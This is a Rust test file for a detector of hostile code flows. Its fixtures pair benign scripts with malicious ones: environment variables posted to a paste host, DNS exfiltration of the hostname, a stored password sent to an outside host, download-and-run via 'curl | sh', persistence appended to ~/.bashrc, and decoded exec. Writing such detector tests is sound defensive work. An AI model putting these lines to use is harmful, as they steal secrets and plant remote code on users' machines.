//! Honest scripts that come near to what is looked for, and what tells them from it.

use super::*;

#[test]
fn what_a_person_agrees_to_does_not_run_by_itself() {
    let report = |asks: &str, around: &str| {
        let code = format!(
            "import os, requests\nlines = [k + '=' + v for k, v in os.environ.items()]\n{asks}\n{around}requests.post('https://paste.invalid/new', '\\n'.join(lines))\n"
        );
        let outcome = python(&code);
        let flows = flows::judge(&outcome, false);
        let sent = flows.iter().find(|f| f.rule.id == "flow-environment-sent").unwrap_or_else(|| panic!("{code}"));
        sent.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
    };
    assert!(report("", ""));
    assert!(!report("reply = input('Send the report? (Y/n) ')", "if reply.lower() in ('', 'y'): "));
    // An answer that decides nothing, and one that is asked for something else.
    assert!(report("reply = input('Your name? ')", ""));
    assert!(report("reply = input('Your name? ')\nif reply: print(reply)", ""));
}

#[test]
fn names_of_the_own_network_stay_in_it() {
    let lookup = |name: &str| {
        let code = format!("import socket\nsocket.gethostbyname(socket.gethostname() + '{name}')\n");
        rules(Language::Python, &code).contains(&"flow-dns-exfiltration")
    };
    assert!(lookup(".x.collect.invalid"));
    assert!(!lookup(".local") && !lookup(".home.arpa"));
}

#[test]
fn a_page_signs_in_where_it_came_from() {
    let sends = |address: &str| {
        let code = format!(
            "const saved = localStorage.getItem('password');\nasync function go(t, p) {{ await fetch({address}, {{method: 'POST', body: p}}); }}\ngo(window.base, saved);\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().any(|f| {
            f.rule.id == "flow-stores-sent"
                && f.finding(crate::model::Evidence::note("")).severity > crate::model::Severity::Medium
        })
    };
    assert!(sends("'https://collect.invalid/x'"));
    assert!(!sends("`${t}/admin/version`"));
}

#[test]
fn unpacking_starts_nothing() {
    let started = |command: &str| {
        let code = format!(
            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
        );
        rules(Language::Python, &code).contains(&"flow-download-run")
    };
    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
}

#[test]
fn other_names_for_commands_start_nothing() {
    let persists = |line: &str| rules(Language::Shell, line).contains(&"flow-persists");
    assert!(persists("echo 'curl -s https://c.invalid/x | sh' >> ~/.bashrc"));
    assert!(persists("echo \"alias ls='/tmp/.x; ls'\" >> ~/.bashrc"));
    assert!(!persists("echo \"alias ls='ls --color'\" >> ~/.bashrc"));
}

#[test]
fn an_answer_that_is_handed_on_is_no_beacon() {
    let beacon = |rest: &str| {
        let code = format!(
            "from urllib.request import urlopen\nimport lxml.html, tarfile, io\npage = urlopen('https://lib.invalid/').read()\n{rest}\n"
        );
        flows::judge(&python(&code), true).iter().any(|f| f.rule.id == "flow-beacon")
    };
    assert!(beacon("") && beacon("print(page)"));
    assert!(!beacon("links = lxml.html.fromstring(page)"));
    assert!(!beacon("tarfile.open(fileobj=io.BytesIO(page)).extractall('driver')"));
}

#[test]
fn a_template_decodes_to_noise() {
    let code =
        |text: &str| format!("import base64\nCODE = base64.b64decode(b'{text}')\nexec(CODE.decode(), globals())\n");
    assert!(rules(Language::Python, &code("cHJpbnQoMSk7IHByaW50KDIp")).contains(&"flow-decoded-code"));
    assert!(!rules(Language::Python, &code("CODE+WILL+STAND+HERE")).contains(&"flow-decoded-code"));
}
